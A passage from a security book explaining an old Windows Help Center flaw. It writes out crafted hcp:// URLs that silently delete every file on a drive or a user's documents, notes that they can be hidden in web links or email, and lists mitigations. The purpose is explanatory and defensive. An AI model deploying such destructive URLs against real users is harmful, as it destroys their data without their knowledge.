An HTM file is opened within the context of a special user account that has a controlled set of permissions. In other words, hostile code in a web page should not be able to delete core files on a computer. However, an HCP file is loaded within the context of the Help Center application, which hasa higher level of permissions. Because the Help Center accesses core parts of the computer to extract information, such as driver versions and hardware settings, any scripting within it also operates at an escalated level. This means the uplddrvinfo.htm file has the power to alter the core filesystem.

The only thing that is left is to create a link to the file and tell it what to delete. This is accomplished using the URL hcp://system/DFS/uplddrvinfo.htm?file://c:\* or, if the hacker was targeting the user's documents, hcp://system/DFS/uplddrvinfo.htm?file://c:\Documents and Settings\Administrator\My Documents\* .

Once a hacker has access to the filesystem, the chaos she can cause is only limited by her imagination . What makes this truly scary is the fact that the user will have no idea what happened . All the user sees is a perfectly harmless Help and Support window. Since this URL can be placed anonymously on the Internet, or hidden in an <a href> tag in an HTML-based email, the only thing a hacker has to do is provide some wording that would cause the user to follow the link and become a victim.

While this particular method of attack is catastrophic to a victim's computer, it is relatively simple to protect against. There are three main options available: remove or move uplddrvinfo.htm , remove the hostile code from the uplddrvinfo.htm file, or disable the HCP protocol altogether.

Ironically, you can use the hostile scripting itself to eliminate the dangerous file. As Shane Hird (who discovered this bug) observed , using the URLhcp://system/DFS/uplddrvinfo.htm?file://c:\windows\PCHEALTH\HLPCTR\system\DFS\uplddrvinfo.htm causes thehostile file to delete itself.

 <  Day Day Up  >

Security Warrior
Security Warrior
ISBN: 0596005458
EAN: 2147483647
Year: 2004Pages: 211

Similar book on Amazon

flylib.com © 2008-2017.
If you may any questionsplease contact us: flylib@qtcs.net